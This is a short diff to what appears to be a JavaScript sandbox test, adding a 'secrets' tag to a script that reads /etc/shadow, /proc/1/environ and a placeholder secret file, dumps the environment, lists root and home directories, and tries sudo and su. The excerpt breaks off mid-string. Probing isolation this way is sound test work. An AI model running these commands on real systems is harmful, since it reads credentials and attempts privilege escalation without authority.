@@ -1,4 +1,5 @@
 // why: Everything a shell could show.
+// about: secrets
 // expect: ok
 const { spawnSync } = require("node:child_process");
 const script = `cat @SECRET_FILE@ /etc/shadow /proc/1/environ; env; ls -la / /home /root @OUTSIDE@; id; ps aux; mount; sudo -n id; su -c id;
